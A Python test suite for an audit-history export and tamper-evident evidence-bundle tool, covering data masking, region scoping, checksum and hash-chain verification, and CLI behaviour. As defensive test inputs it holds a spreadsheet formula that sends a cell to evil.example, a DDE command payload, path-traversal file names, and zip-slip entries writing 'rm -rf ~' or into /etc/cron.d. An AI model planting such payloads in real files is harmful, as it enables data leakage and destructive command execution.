"""Auditors' exports and evidence bundles, on every configured database: the history in a
reader's scope as JSON lines, CSV and XLSX (personal data masked per role, spreadsheet
formulas neutralised), and a case's bundle that `check-bundle` and `sha256sum -c` verify
offline, and that reports every tampering."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import select

import engine.cli_export  # noqa: F401 (adds the export commands to `rukun audit`)
from engine.audit import export as export_module
from engine.audit.bundle import safe_filename
from engine.audit.bundle_check import check_bundle, inspect_bundle
from engine.audit.export import COLUMNS, Exporter
from engine.audit.merkle import leaf_hash, verify_inclusion
from engine.cli import main
from engine.demo import run_demo
from engine.errors import Forbidden, NotFound
from engine.runtime import Rukun
from engine.store.chain import verify_chain
from engine.store.models import TransitionRecord

PROBEBAYA_CASE = 1
KUBE_PROGRAM = "kube"
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FORMULA_USER = "=cmd|'/C_calc'!A0"


@pytest.fixture
def demo(app: Rukun) -> Rukun:
    """The demo: a Probebaya case end to end and cases of every program in many states."""
    run_demo(app, 2026, lambda _line: None)
    return app


def exported(app: Rukun, user: str, fmt: str, **filters: Any) -> tuple[bytes, dict[str, Any]]:
    out = io.BytesIO()
    counts = Exporter(app.context).export(user, fmt, out, **filters)
    return out.getvalue(), counts


def jsonl_rows(app: Rukun, user: str, **filters: Any) -> list[dict[str, Any]]:
    data, _ = exported(app, user, "jsonl", **filters)
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def xlsx_rows(data: bytes) -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=False)
    sheet = book.active
    assert sheet is not None
    header, *rows = [[cell for cell in row] for row in sheet.iter_rows()]
    assert [c.value for c in header] == list(COLUMNS)
    assert all(cell.data_type != "f" for row in rows for cell in row), "a formula cell"
    return [{h.value: c.value for h, c in zip(header, row, strict=True)} for row in rows]


def records_in(app: Rukun, cases: list[dict[str, Any]]) -> int:
    return sum(c["version"] for c in cases)


def kube_members_record(rows: list[dict[str, Any]]) -> dict[str, Any]:
    return next(r for r in rows if r["program"] == KUBE_PROGRAM and "members" in r["payload"])


def stored_kube_nik(app: Rukun, case_id: int) -> str:
    """The first household's NIK as the database holds it (unmasked)."""
    with app.context.sessions() as session:
        payloads = session.scalars(
            select(TransitionRecord.payload).where(TransitionRecord.case_id == case_id)
        )
        members = next(p["members"] for p in payloads if "members" in p)
    return str(members[0]["nik"])


def make_bundle(app: Rukun, path: Path, case_id: int = PROBEBAYA_CASE, user: str = "") -> Path:
    with path.open("wb") as out:
        Exporter(app.context).bundle(user or "demo_auditor", case_id, out)
    return path


def rewritten(source: Path, target: Path, change: dict[str, Any]) -> Path:
    """A copy of a zip with members replaced (bytes), dropped (None) or added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            if info.filename in change:
                if change[info.filename] is not None:
                    new.writestr(info.filename, change.pop(info.filename))
                else:
                    change.pop(info.filename)
            else:
                new.writestr(info.filename, old.read(info))
        for name, data in change.items():
            new.writestr(name, data)
    return target


# ------------------------------------------------------------------ exports


def test_jsonl_has_one_row_per_record_in_scope_by_case_and_seq_with_hashes(demo: Rukun) -> None:
    rows = jsonl_rows(demo, "demo_auditor")
    cases = demo.cases.list(limit=1000)
    assert len(rows) == records_in(demo, cases) > 50
    assert [(r["case_id"], r["seq"]) for r in rows] == sorted(
        (r["case_id"], r["seq"]) for r in rows
    )
    assert all(list(r) == list(COLUMNS) for r in rows)
    assert all(len(r["hash"]) == 64 and len(r["prev_hash"]) == 64 for r in rows)
    first = rows[0]
    assert first["subject"] == cases[0]["subject"] and first["year"] == cases[0]["year"]
    # unmasked records are the stored ones: their chains verify from the export alone
    by_case: dict[int, list[dict[str, Any]]] = {}
    for row in rows:
        by_case.setdefault(row["case_id"], []).append(row)
    for case_id, chain in by_case.items():
        if not any(r["masked"] for r in chain):
            assert verify_chain(chain) == [], case_id


def test_export_reads_cases_in_batches_and_keeps_their_order(
    demo: Rukun, monkeypatch: pytest.MonkeyPatch
) -> None:
    everything = jsonl_rows(demo, "demo_auditor")
    monkeypatch.setattr(export_module, "CASES_PER_BATCH", 3)
    monkeypatch.setattr(export_module, "RECORDS_PER_FETCH", 2)
    data, counts = exported(demo, "demo_auditor", "jsonl")
    assert [json.loads(line) for line in data.splitlines()] == everything
    assert counts["records"] == len(everything)
    assert counts["cases"] == len(demo.cases.list(limit=1000))


def test_csv_and_xlsx_parse_back_to_the_jsonl_rows(demo: Rukun) -> None:
    rows = jsonl_rows(demo, "demo_auditor", program="probebaya")
    csv_data, csv_counts = exported(demo, "demo_auditor", "csv", program="probebaya")
    xlsx_data, xlsx_counts = exported(demo, "demo_auditor", "xlsx", program="probebaya")
    from_csv, from_xlsx = csv_rows(csv_data), xlsx_rows(xlsx_data)
    assert len(from_csv) == len(from_xlsx) == len(rows) == csv_counts["records"]
    assert xlsx_counts["truncated_cells"] == 0
    for row, text, cells in zip(rows, from_csv, from_xlsx, strict=True):
        assert text["hash"] == cells["hash"] == row["hash"]
        assert int(text["seq"]) == cells["seq"] == row["seq"]
        assert (text["source"] or None) == cells["source"] == row["source"]
        for name in ("payload", "guards", "documents", "effects"):
            assert json.loads(text[name]) == json.loads(cells[name]) == row[name]
        assert text["masked"] == "false" and cells["masked"] is False


def test_personal_data_is_masked_for_an_auditor_and_shown_to_a_role_that_may_see_it(
    demo: Rukun,
) -> None:
    auditor = kube_members_record(jsonl_rows(demo, "demo_auditor", program=KUBE_PROGRAM))
    nik = stored_kube_nik(demo, auditor["case_id"])
    masked_nik = auditor["payload"]["members"][0]["nik"]
    assert "*" in masked_nik and masked_nik != nik and auditor["masked"] is True
    assert auditor["payload"]["members"][0]["name"].startswith("Kepala Keluarga")
    # dinsos is one of KUBE's pii_roles; with an audit role in the province it sees NIKs
    demo.users.grant("demo_dinsos", "auditor", "64")
    dinsos = kube_members_record(jsonl_rows(demo, "demo_dinsos", program=KUBE_PROGRAM))
    assert dinsos["payload"]["members"][0]["nik"] == nik and dinsos["masked"] is False
    admin = kube_members_record(jsonl_rows(demo, "demo_admin", program=KUBE_PROGRAM))
    assert admin["payload"]["members"][0]["nik"] == nik
    cells = csv_rows(exported(demo, "demo_auditor", "csv", program=KUBE_PROGRAM)[0])
    assert nik not in json.dumps(cells) and masked_nik in json.dumps(cells)


def test_a_scoped_auditor_exports_only_cases_within_their_region(demo: Rukun) -> None:
    demo.users.grant("demo_city_bontang", "auditor", "64.74")
    rows = jsonl_rows(demo, "demo_city_bontang")
    bontang = [c for c in demo.cases.list(limit=1000) if c["subject"].startswith("64.74.")]
    assert bontang and len(rows) == records_in(demo, bontang)
    assert {r["case_id"] for r in rows} == {c["id"] for c in bontang}
    # filters narrow within the scope, never widen it
    assert jsonl_rows(demo, "demo_city_bontang", region="64.72") == []
    assert jsonl_rows(demo, "demo_city_bontang", program="probebaya") == []
    later = jsonl_rows(demo, "demo_city_bontang", year=2027)
    assert later and {r["year"] for r in later} == {2027}


def test_region_program_and_year_filters_for_an_unscoped_auditor(demo: Rukun) -> None:
    cases = demo.cases.list(limit=1000)
    samarinda = jsonl_rows(demo, "demo_auditor", region="64.72")
    assert {r["case_id"] for r in samarinda} == {
        c["id"] for c in cases if c["subject"].startswith("64.72.")
    }
    this_year = jsonl_rows(demo, "demo_auditor", program="prolita", year=2026)
    assert {r["case_id"] for r in this_year} == {
        c["id"] for c in cases if c["program"] == "prolita" and c["year"] == 2026
    }
    with pytest.raises(NotFound, match="no program 'nope'"):
        exported(demo, "demo_auditor", "jsonl", program="nope")
    with pytest.raises(NotFound, match=r"no region 99\.99"):
        exported(demo, "demo_auditor", "csv", region="99.99")


def test_a_ketua_rt_without_an_audit_role_may_neither_export_nor_bundle(
    demo: Rukun, tmp_path: Path
) -> None:
    out = io.BytesIO()
    with pytest.raises(Forbidden, match="needs role auditor"):
        Exporter(demo.context).export("demo_ketua_rt", "jsonl", out)
    with pytest.raises(Forbidden, match="needs role auditor"):
        Exporter(demo.context).bundle("demo_ketua_rt", PROBEBAYA_CASE, out)
    assert out.getvalue() == b""


def test_a_scoped_auditor_may_not_bundle_a_case_outside_their_region(demo: Rukun) -> None:
    demo.users.grant("demo_city_bontang", "auditor", "64.74")
    with pytest.raises(Forbidden, match="outside their region scope"):
        Exporter(demo.context).bundle("demo_city_bontang", PROBEBAYA_CASE, io.BytesIO())


def test_formulas_are_neutralised_in_csv_and_xlsx_and_kept_verbatim_in_json(demo: Rukun) -> None:
    submitted = next(
        c for c in demo.cases.list(program="probebaya", limit=1000) if c["state"] == "submitted"
    )
    kelurahan = next(u for u in demo.users.list() if u["name"] == "demo_kelurahan")
    demo.users.add(FORMULA_USER, "kelurahan", [kelurahan["grants"][0]["region"]])
    demo.cases.fire(
        submitted["id"], "return_for_revision", FORMULA_USER, {"revision_notes": FORMULA_NOTE}
    )

    def returned(rows: list[dict[str, Any]]) -> dict[str, Any]:
        return next(
            r
            for r in rows
            if int(r["case_id"]) == submitted["id"] and r["trigger"] == "return_for_revision"
        )

    as_json = returned(jsonl_rows(demo, "demo_auditor"))
    assert as_json["actor"] == FORMULA_USER
    assert as_json["payload"]["revision_notes"] == FORMULA_NOTE
    for rows in (
        csv_rows(exported(demo, "demo_auditor", "csv")[0]),
        xlsx_rows(exported(demo, "demo_auditor", "xlsx")[0]),
    ):
        row = returned(rows)
        assert row["actor"] == "'" + FORMULA_USER
        assert row["payload"].startswith("{")
        assert json.loads(row["payload"])["revision_notes"] == FORMULA_NOTE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
    assert export_module.neutralised(start + "1+1") == "'" + start + "1+1"
    assert export_module.neutralised("1" + start) == "1" + start


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("berita acara (final).pdf", "berita_acara_final_.pdf"),
        ("..", "document"),
        (".hidden..pdf", "hidden.pdf"),
        ("", "document"),
        ("a" * 300 + ".pdf", "a" * 96 + ".pdf"),
    ],
)
def test_safe_filename_keeps_only_a_plain_base_name(name: str, safe: str) -> None:
    assert safe_filename(name) == safe


# ------------------------------------------------------------------ bundles


def test_bundle_of_the_probebaya_case_checks_offline_and_with_sha256sum(
    demo: Rukun, tmp_path: Path
) -> None:
    bundle = make_bundle(demo, tmp_path / "case-1.zip")
    check = inspect_bundle(bundle)
    assert check.problems == [] and check_bundle(bundle) == []
    history = demo.cases.history(PROBEBAYA_CASE)
    assert check.records == len(history)
    with zipfile.ZipFile(bundle) as archive:
        names = set(archive.namelist())
        manifest = json.loads(archive.read("manifest.json"))
        verification = json.loads(archive.read("verification.json"))
        lines = archive.read("history.jsonl").decode().splitlines()
    assert {
        "history.jsonl",
        "verification.json",
        "manifest.json",
        "SHA256SUMS",
        "README.txt",
    } <= names
    assert [json.loads(line)["hash"] for line in lines] == [r["hash"] for r in history]
    assert manifest["chain_head"] == {"seq": history[-1]["seq"], "hash": history[-1]["hash"]}
    assert manifest["verification"]["verdict"] == "intact" and verification["intact"] is True
    assert manifest["generated_by"] == "demo_auditor" and manifest["case_id"] == PROBEBAYA_CASE
    # the LPJ receipts were replaced by the second tranche's: both are in the bundle
    receipts = [r["documents"]["lpj_receipts"] for r in history if "lpj_receipts" in r["documents"]]
    assert len(set(receipts)) == 2
    attached = {sha for r in history for sha in r["documents"].values()}
    documents = {n.split("/")[1][:64] for n in names if n.startswith("documents/")}
    assert documents == attached >= set(receipts)
    assert all(d["status"] == "included" for d in manifest["documents"])
    assert shutil.which("sha256sum"), "coreutils' sha256sum checks the bundle as a reader would"
    unpacked = tmp_path / "unpacked"
    with zipfile.ZipFile(bundle) as archive:
        archive.extractall(unpacked)
    result = subprocess.run(
        ["sha256sum", "-c", "SHA256SUMS"], cwd=unpacked, capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count(": OK") == len(names) - 1


def test_bundle_reports_a_changed_document_byte(demo: Rukun, tmp_path: Path) -> None:
    bundle = make_bundle(demo, tmp_path / "case-1.zip")
    with zipfile.ZipFile(bundle) as archive:
        name = next(n for n in archive.namelist() if n.startswith("documents/"))
        content = bytearray(archive.read(name))
    content[len(content) // 2] ^= 0x01
    problems = check_bundle(rewritten(bundle, tmp_path / "t.zip", {name: bytes(content)}))
    assert any(p.startswith(name) and "was changed" in p for p in problems)
    assert any(name in p and "SHA256SUMS" in p for p in problems)


def test_bundle_reports_an_edited_history_line_even_with_fresh_checksums(
    demo: Rukun, tmp_path: Path
) -> None:
    bundle = make_bundle(demo, tmp_path / "case-1.zip")
    with zipfile.ZipFile(bundle) as archive:
        lines = archive.read("history.jsonl").decode().splitlines()
        manifest = json.loads(archive.read("manifest.json"))
    record = json.loads(lines[1])
    assert record["trigger"] == "record_rembug"
    record["payload"]["attendees"] = 48
    lines[1] = json.dumps(record)
    history = ("\n".join(lines) + "\n").encode()
    edited = rewritten(bundle, tmp_path / "t.zip", {"history.jsonl": history})
    problems = check_bundle(edited)
    assert "history.jsonl seq 2: hash does not match the record's content" in problems
    assert any(p.startswith("history.jsonl: its sha256") for p in problems)
    # whoever edits the history and rewrites both checksum files is still caught by the chain
    digest = hashlib.sha256(history).hexdigest()
    for entry in manifest["files"]:
        if entry["name"] == "history.jsonl":
            entry.update(sha256=digest, size=len(history))
    manifest_bytes = json.dumps(manifest).encode()
    with zipfile.ZipFile(bundle) as archive:
        sums = archive.read("SHA256SUMS").decode().splitlines()
    sums = [
        f"{digest}  history.jsonl"
        if s.endswith("  history.jsonl")
        else f"{hashlib.sha256(manifest_bytes).hexdigest()}  manifest.json"
        if s.endswith("  manifest.json")
        else s
        for s in sums
    ]
    forged = rewritten(
        bundle,
        tmp_path / "forged.zip",
        {
            "history.jsonl": history,
            "manifest.json": manifest_bytes,
            "SHA256SUMS": ("\n".join(sums) + "\n").encode(),
        },
    )
    assert check_bundle(forged) == ["history.jsonl seq 2: hash does not match the record's content"]


def test_bundle_check_refuses_zip_slip_members_and_unreadable_files(
    demo: Rukun, tmp_path: Path
) -> None:
    bundle = make_bundle(demo, tmp_path / "case-1.zip")
    slipped = rewritten(
        bundle, tmp_path / "slip.zip", {"../evil.sh": b"rm -rf ~\n", "/etc/cron.d/x": b"x"}
    )
    problems = check_bundle(slipped)
    assert any("'../evil.sh'" in p and "zip slip" in p for p in problems)
    assert any("'/etc/cron.d/x'" in p and "zip slip" in p for p in problems)
    assert not any("not listed" in p for p in problems)  # never read, so never listed
    (tmp_path / "junk.zip").write_bytes(b"not a zip")
    assert "not a readable zip file" in check_bundle(tmp_path / "junk.zip")[0]


def test_bundle_check_stops_reading_at_its_size_limit(demo: Rukun, tmp_path: Path) -> None:
    bundle = make_bundle(demo, tmp_path / "case-1.zip")
    with zipfile.ZipFile(bundle) as archive:
        total = sum(i.file_size for i in archive.infolist())
    assert inspect_bundle(bundle, limit=total * 3).ok
    declared = inspect_bundle(bundle, limit=total - 1).problems
    assert len(declared) == 1 and "zip bomb" in declared[0]
    # headers can lie: the bytes actually read count too (history is read twice)
    read = inspect_bundle(bundle, limit=total + 10).problems
    assert read and "zip bomb" in read[-1]


def test_bundle_lists_a_document_missing_from_storage_and_the_check_says_so(
    demo: Rukun, tmp_path: Path
) -> None:
    history = demo.cases.history(PROBEBAYA_CASE)
    lost = history[1]["documents"]["minutes"]
    demo.context.documents.path_for(lost).unlink()
    out = tmp_path / "case-1.zip"
    with out.open("wb") as handle:
        made = Exporter(demo.context).bundle("demo_auditor", PROBEBAYA_CASE, handle)
    assert made["missing_documents"] == 1 and made["verification"]["verdict"] == "problems"
    with zipfile.ZipFile(out) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        assert not any(n.startswith(f"documents/{lost}") for n in archive.namelist())
    entry = next(d for d in manifest["documents"] if d["sha256"] == lost)
    assert entry["status"] == "missing" and entry["member"] is None
    problems = check_bundle(out)
    assert any("missing from storage when the bundle was made" in p for p in problems)
    assert any("did not verify when the bundle was made" in p for p in problems)


def test_a_masked_bundle_checks_the_links_of_masked_records(demo: Rukun, tmp_path: Path) -> None:
    kube = kube_members_record(jsonl_rows(demo, "demo_auditor", program=KUBE_PROGRAM))
    bundle = make_bundle(demo, tmp_path / "kube.zip", kube["case_id"])
    check = inspect_bundle(bundle)
    assert check.ok and any("masked" in note for note in check.notes)
    with zipfile.ZipFile(bundle) as archive:
        lines = archive.read("history.jsonl").decode().splitlines()
        assert json.loads(archive.read("manifest.json"))["masked_records"] == 1
    index = next(i for i, line in enumerate(lines) if json.loads(line)["masked"])
    record = json.loads(lines[index])
    assert stored_kube_nik(demo, kube["case_id"]) not in lines[index]
    record["hash"] = "f" * 64  # a masked record's hash still binds the next record
    lines[index] = json.dumps(record)
    edited = rewritten(
        bundle, tmp_path / "t.zip", {"history.jsonl": ("\n".join(lines) + "\n").encode()}
    )
    problems = check_bundle(edited)
    seq = record["seq"]
    assert f"history.jsonl seq {seq + 1}: prev_hash does not match the previous record's hash" in (
        problems
    )
    # made by a role that may see personal data, nothing is masked and every hash is checked
    admin = inspect_bundle(make_bundle(demo, tmp_path / "admin.zip", kube["case_id"], "demo_admin"))
    assert admin.ok and not any("masked" in note for note in admin.notes)


# ------------------------------------------------------------------ command line


def test_cli_export_bundle_and_check_bundle_exit_codes(
    demo: Rukun, env: dict[str, str], tmp_path: Path
) -> None:
    runner = CliRunner()
    out = tmp_path / "out"
    out.mkdir()

    def run(*args: str) -> Any:
        return runner.invoke(main, ["audit", *args], env=env, catch_exceptions=False)

    jsonl = run("export", "--format", "jsonl", "--program", "prolita", "--as", "demo_auditor")
    assert jsonl.exit_code == 0, jsonl.output
    rows = [json.loads(line) for line in jsonl.stdout_bytes.splitlines()]
    prolita = [c for c in demo.cases.list(program="prolita", limit=1000)]
    assert len(rows) == records_in(demo, prolita)
    target = out / "history.xlsx"
    xlsx = run("export", "--format", "xlsx", "--output", str(target), "--as", "demo_auditor")
    assert xlsx.exit_code == 0 and "exported" in xlsx.stdout
    assert len(xlsx_rows(target.read_bytes())) == records_in(demo, demo.cases.list(limit=1000))
    assert run("export", "--format", "xlsx", "--as", "demo_auditor").exit_code == 2
    assert run("export", "--format", "pdf", "--as", "demo_auditor").exit_code == 2
    refused = out / "refused.csv"
    forbidden = run("export", "--format", "csv", "--output", str(refused), "--as", "demo_ketua_rt")
    assert forbidden.exit_code == 3 and "needs role auditor" in forbidden.stderr
    assert not refused.exists() and list(out.iterdir()) == [target]  # no partial file left
    assert run("export", "--format", "csv", "--region", "99", "--as", "demo_auditor").exit_code == 5
    assert run("export", "--format", "csv", "--as", "nobody").exit_code == 5

    bundle = out / "case-1.zip"
    made = run("bundle", "1", "--as", "demo_auditor", "--output", str(bundle), "--json")
    assert made.exit_code == 0, made.output
    assert json.loads(made.stdout)["verification"]["verdict"] == "intact"
    assert (
        run("bundle", "1", "--as", "demo_ketua_rt", "--output", str(out / "x.zip")).exit_code == 3
    )
    assert (
        run("bundle", "999", "--as", "demo_auditor", "--output", str(out / "x.zip")).exit_code == 5
    )
    assert not (out / "x.zip").exists()
    ok = run("check-bundle", str(bundle))
    assert ok.exit_code == 0 and "intact" in ok.stdout and "chain head" in ok.stdout
    tampered = rewritten(bundle, tmp_path / "t.zip", {"README.txt": b"nothing to see\n"})
    bad = run("check-bundle", str(tampered))
    assert bad.exit_code == 1
    assert "README.txt: its sha256" in bad.stdout and "problem(s)" in bad.stdout
    as_json = json.loads(run("check-bundle", str(tampered), "--json").stdout)
    assert as_json["ok"] is False and as_json["problems"]
    counts = Counter(p.split(":")[0] for p in as_json["problems"])
    assert counts["README.txt"] == 2  # against SHA256SUMS and against the manifest


def test_a_bundle_carries_the_anchor_proof_that_checks_against_the_digest(
    demo: Rukun, tmp_path: Path
) -> None:
    """After an anchor, the bundle's manifest holds the audit path from the case's head to
    the anchor's digest; a forged path or head is reported."""
    anchor = demo.audit.anchor("demo_auditor")
    bundle = make_bundle(demo, tmp_path / "anchored.zip")
    with zipfile.ZipFile(bundle) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    proof = manifest["anchor"]
    assert proof["digest"] == anchor["digest"] and proof["leaf"]["case_id"] == PROBEBAYA_CASE
    assert verify_inclusion(
        leaf_hash(PROBEBAYA_CASE, proof["leaf"]["seq"], proof["leaf"]["hash"]),
        proof["index"],
        proof["size"],
        proof["proof"],
        anchor["digest"],
    )
    check = inspect_bundle(bundle)
    assert check.problems == [] and any(n.startswith("anchored: ") for n in check.notes)
    for forged in (
        {**proof, "proof": [*reversed(proof["proof"]), "0" * 64]},
        {**proof, "leaf": {**proof["leaf"], "hash": "f" * 64}},
    ):
        changed = json.dumps({**manifest, "anchor": forged}).encode()
        problems = check_bundle(
            rewritten(bundle, tmp_path / "forged.zip", {"manifest.json": changed})
        )
        assert any("anchor" in p for p in problems), problems
